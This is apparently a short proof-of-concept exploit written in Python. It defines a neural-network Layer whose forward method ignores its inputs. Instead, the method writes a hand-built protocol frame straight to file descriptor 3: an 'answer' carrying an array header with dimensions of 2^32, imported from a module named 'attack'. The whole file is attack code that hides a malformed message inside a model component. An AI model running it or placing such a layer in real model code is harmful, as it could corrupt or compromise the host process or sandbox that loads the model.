import os

from attack import Nothing, frames, nonce


class Layer(Nothing):
    def forward(self, inputs):
        head = frames.ANSWER.pack(frames.ARRAY_KIND, nonce(), 0)
        axes = [1 << 32, 1 << 32, 0, 0, 0, 0, 0, 0]
        os.write(3, head + frames.ARRAY.pack(b"f4", 2, 1, *axes, 0) + b"y")
